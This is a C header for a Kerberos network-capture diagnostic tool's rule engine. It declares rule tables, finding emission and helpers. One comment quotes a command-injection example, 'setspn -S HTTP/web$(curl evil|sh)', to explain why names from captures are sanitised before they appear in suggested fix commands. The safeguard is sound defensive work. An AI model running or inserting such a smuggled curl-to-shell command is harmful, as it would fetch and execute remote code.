/* rules.h - the rule engine: findings from decoded messages and stories.
 *
 * Rules read only the frozen result (messages, stories, transport events,
 * TLS hellos: never packets).  Each rule is one entry of a static table with
 * a stable id from DIAGNOSES.md and a function that adds findings through
 * kf_finding_add().  After every rule ran, precedence folds symptoms into
 * their root cause: a finding of a GENERIC rule whose frames meet those of a
 * ROOT_CAUSE finding is dropped and its frames join the root cause's evidence
 * (DIAGNOSES.md "Precedence"); so is a finding of any class that rules.c's
 * TAKES table says a root cause explains (ntlm-fallback on a front end's
 * back-end logon, in missing-forwarded-tgt).  Findings end up ordered by
 * first frame.
 */
#ifndef KF_RULES_H
#define KF_RULES_H

#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>

#include "base/limits.h"
#include "base/status.h"
#include "finding.h"
#include "result.h"

struct kf_rule_ctx;

struct kf_rule {
	struct kf_rule_info info;
	void (*run)(struct kf_rule_ctx *ctx);
};

/* The rule tables, one per file, in catalogue order: delegation
 * (rules_deleg.c), HTTP Negotiate's SPN and ticket (rules_http_spn.c) and
 * what HTTP did with the credentials (rules_http_token.c), what an SMB
 * server answered a logon or a share request (rules_smb.c), reaching the KDC
 * (rules_reach.c), encryption types (rules_etype.c), the KDC and AP errors
 * (rules_kdc_errors.c).  Shared helpers: rules_common.h. */
extern const struct kf_rule kf_rules_deleg[];
extern const size_t kf_rules_deleg_count;
extern const struct kf_rule kf_rules_http_spn[];
extern const size_t kf_rules_http_spn_count;
extern const struct kf_rule kf_rules_http_token[];
extern const size_t kf_rules_http_token_count;
extern const struct kf_rule kf_rules_http_unanswered[]; /* a 401 never answered (rules_http_unanswered.c) */
extern const size_t kf_rules_http_unanswered_count;
extern const struct kf_rule kf_rules_http_client[]; /* the client's scheme, loopback (rules_http_client.c) */
extern const size_t kf_rules_http_client_count;
extern const struct kf_rule kf_rules_smb[];
extern const size_t kf_rules_smb_count;
extern const struct kf_rule kf_rules_ldap[];
extern const size_t kf_rules_ldap_count;
extern const struct kf_rule kf_rules_tds[];
extern const size_t kf_rules_tds_count;
extern const struct kf_rule kf_rules_rpc[];
extern const size_t kf_rules_rpc_count;
extern const struct kf_rule kf_rules_reach[];
extern const size_t kf_rules_reach_count;
extern const struct kf_rule kf_rules_etype[];
extern const size_t kf_rules_etype_count;
extern const struct kf_rule kf_rules_kdc_errors[];
extern const size_t kf_rules_kdc_errors_count;

/* Every rule, in catalogue order (for `krbflow rules`). *n is the count. */
const struct kf_rule_info *const *kf_rule_catalogue(size_t *n);

/* The rule with this id, or NULL. */
const struct kf_rule *kf_rule_find(const char *id);

/* Run every rule over r and set r->findings. */
enum kf_status kf_rules_run(struct kf_result *r) KF_WUR;

/* Run the given rules only (tests of one rule on a hand-made result). */
enum kf_status kf_rules_run_only(struct kf_result *r, const struct kf_rule *const *rules, size_t n) KF_WUR;

/* ---- for rule functions ------------------------------------------------ */

const struct kf_result *kf_rule_result(const struct kf_rule_ctx *ctx);

/* A finding's subject while the rule gathers it.  Strings are copied into
 * run-lifetime memory when added, repeats ignored; past
 * KF_LIMIT_SUBJECT_ITEMS a member keeps its first ones. */
struct kf_subject_b {
	const char *v[KF_SUBJECT__COUNT][KF_LIMIT_SUBJECT_ITEMS];
	uint16_t n[KF_SUBJECT__COUNT];
};
void kf_subject_add(struct kf_rule_ctx *ctx, struct kf_subject_b *b, enum kf_subject_kind k, const char *s);
/* An endpoint's address ("10.88.0.2", "fd88::2"), or address and port. */
void kf_subject_addr(struct kf_rule_ctx *ctx, struct kf_subject_b *b, enum kf_subject_kind k,
		     const struct kf_endpoint *e, bool with_port);
/* name@REALM (name alone when the realm is unknown; nothing when name is NULL). */
void kf_subject_principal(struct kf_rule_ctx *ctx, struct kf_subject_b *b, enum kf_subject_kind k,
			  const char *name, const char *realm);
/* What one message tells of whom it concerns: its client and KDC addresses,
 * the user it names (cname, NTLM DOMAIN\user), the service it is for
 * (sname, the ticket's server) and the application server it went to. */
void kf_subject_message(struct kf_rule_ctx *ctx, struct kf_subject_b *b, const struct kf_message *m);

/* A finding of the running rule.  frames need not be sorted or unique; the
 * strings are copied (NULL remediation allowed); cause must be one of the
 * rule's causes; subject NULL: gathered from the evidence frames' messages
 * (kf_subject_message).  Past KF_LIMIT_FINDINGS_PER_RULE the finding is
 * counted, not kept. */
struct kf_finding_in {
	enum kf_severity severity;
	enum kf_confidence confidence;
	const char *cause;
	const uint64_t *frames;
	size_t n_frames;
	const struct kf_subject_b *subject;
	const char *summary, *explanation, *remediation;
	const char *clocks[2]; /* clock findings: static names (struct kf_finding) */
	bool has_offset;
	int64_t offset_s;
};
void kf_finding_emit(struct kf_rule_ctx *ctx, const struct kf_finding_in *in);

/* True when cause is one of the rule's listed causes. */
bool kf_rule_cause_listed(const struct kf_rule_info *rule, const char *cause);

/* A rule's own scratch allocation failed: the run reports out of memory
 * (exit 3) instead of silently missing this rule's findings. */
void kf_rule_nomem(struct kf_rule_ctx *ctx);

/* printf into run-lifetime memory (NULL when out of memory: kf_finding_add
 * copes).  For building summaries. */
const char *kf_rule_fmt(struct kf_rule_ctx *ctx, const char *fmt, ...) __attribute__((format(printf, 2, 3)));
/* A name from the capture as an argument of a command in a fix: the name when
 * it keeps to a host/SPN/user name's grammar, else "<name>", and the next
 * finding's fix ends with a note showing the name quoted (names are hostile:
 * `setspn -S HTTP/web$(curl evil|sh)` must never be suggested). */
const char *kf_rule_cmd_arg(struct kf_rule_ctx *ctx, const char *name);
/* True when name keeps to that grammar (no note, no "<name>"). */
bool kf_rule_name_cmd_safe(const char *name);

/* True when a KRB-ERROR from a KDC was recovered from at once: the same
 * client got a successful reply (AS-REP / TGS-REP) for the same request
 * (AS: same cname; TGS: same sname) within KF_RULE_RECOVERY_US afterwards,
 * e.g. PREAUTH_REQUIRED before a good AS exchange, or an etype retry.
 * Benign errors are not findings (DIAGNOSES.md). */
#define KF_RULE_RECOVERY_US (30ull * 1000000ull)
bool kf_error_recovered(const struct kf_result *r, const struct kf_message *err);

/* ---- "first of each group" loops ------------------------------------------
 * A rule reports a group (one client's errors of a kind, ...) at its first
 * message and gathers the rest from that client's own messages
 * (kf_result_at_addr), instead of rescanning the capture for each message.
 * A kf_seen remembers the groups reported, by a 128-bit key hashed from what
 * defines the group. */
struct kf_key {
	uint64_t a, b;
};
struct kf_key kf_key_new(void);
void kf_key_int(struct kf_key *k, int64_t v);
void kf_key_addr(struct kf_key *k, const struct kf_endpoint *e); /* the address, port aside */
void kf_key_name(struct kf_key *k, const char *s);               /* case-insensitive; NULL differs from "" */

struct kf_seen {
	struct kf_key *e;
	size_t cap, n;
};
/* True when k is new (and is now remembered); false when seen before, or
 * when memory ran out (reported through ctx). */
bool kf_seen_add(struct kf_rule_ctx *ctx, struct kf_seen *s, struct kf_key k);
void kf_seen_free(struct kf_seen *s);

/* The story of the message's client (NULL if none). */
const struct kf_story *kf_story_of(const struct kf_result *r, const struct kf_message *m);

#endif
